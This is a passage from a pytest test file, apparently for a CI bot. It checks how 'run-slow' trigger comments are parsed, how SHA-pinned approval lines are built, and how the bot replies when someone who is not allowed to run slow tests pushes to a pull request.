    assert parse_trigger(line) == Trigger(("bert", "gpt2"), sha=SHA)


@pytest.mark.parametrize(
    ("body", "line", "again"),
    [
        ("run-slow", f"run-slow sha={SHA}", Trigger((), sha=SHA)),
        ("run-slow --failed bert", f"run-slow --failed sha={SHA}", Trigger((), True, SHA)),
        (
            "run-slow: bert, _x sha=1a2b3c4",
            f"run-slow: bert sha={SHA}",
            Trigger(("bert",), sha=SHA),
        ),
    ],
)
def test_the_approval_line_asks_for_the_same_run(body, line, again):
    assert approval_line(parse_trigger(body), SHA) == line
    assert parse_trigger(line) == again


def test_unapproved_push_reply_names_the_refused_pusher_below_a_maintainers_push():
    reply = unapproved_push_reply(SHA, "maint", ("reader",))
    assert SHA[:12] in reply
    assert "@maint on top of pushes by @reader, who cannot run slow tests" in reply
    assert "maintainer can approve" in reply
    assert unapproved_push_reply(SHA, "eve", ("eve",)) == unapproved_push_reply(SHA, "eve")
    both = unapproved_push_reply(SHA, "eve", ("reader", "eve"))
    assert "@eve on top of pushes by @reader; none of them can run slow tests" in both


def test_untraced_push_reply_asks_a_maintainer_to_approve():
    reply = untraced_push_reply(SHA)
    assert SHA[:12] in reply and "no record" in reply and "maintainer" in reply
